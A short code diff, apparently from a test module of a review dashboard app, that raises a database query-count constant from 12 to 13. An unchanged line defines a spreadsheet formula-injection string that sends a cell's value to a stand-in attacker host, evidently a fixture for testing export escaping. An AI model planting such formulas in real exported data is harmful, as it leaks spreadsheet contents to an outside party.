@@ -37,7 +37,9 @@ ANSWERS_QUERIES = 11
 PLAN_QUERIES = (
     12  # session, user, lens review, the snapshot (5), open items, profile, activity line
 )
-DASHBOARD_QUERIES = 12  # session, user, and the dashboard's data (reviews.dashboard.portfolio)
+# session, user, and the dashboard's data (reviews.dashboard.portfolio, counted afresh: with
+# the lenses reviewed, for the dashboard's lens picker)
+DASHBOARD_QUERIES = 13
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click me")'
 
 
